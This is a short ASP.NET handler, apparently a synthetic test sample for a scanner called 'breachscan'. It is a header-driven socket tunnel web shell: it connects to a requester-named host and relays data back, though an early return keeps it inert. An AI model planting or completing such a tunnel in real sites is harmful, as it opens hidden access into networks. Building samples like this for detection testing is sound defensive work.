<%@ WebHandler Language="C#" Class="T" %>
// synthetic test sample for breachscan: socket tunnel keyed by request headers. Inert: returns first.
using System.Web; using System.Net; using System.Net.Sockets;
public class T : IHttpHandler {
    public void ProcessRequest(HttpContext c) {
        return;
        string cmd = c.Request.Headers["X-Cmd"];
        if (cmd == "CONNECT") {
            var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(new IPEndPoint(IPAddress.Parse(c.Request.Headers["X-Host"]), 9));
            c.Session["s"] = s;
        } else if (cmd == "READ") {
            var s = (Socket) c.Session["s"]; var b = new byte[512]; int n = s.Receive(b);
            c.Response.BinaryWrite(b);
        }
    }
    public bool IsReusable { get { return false; } }
}
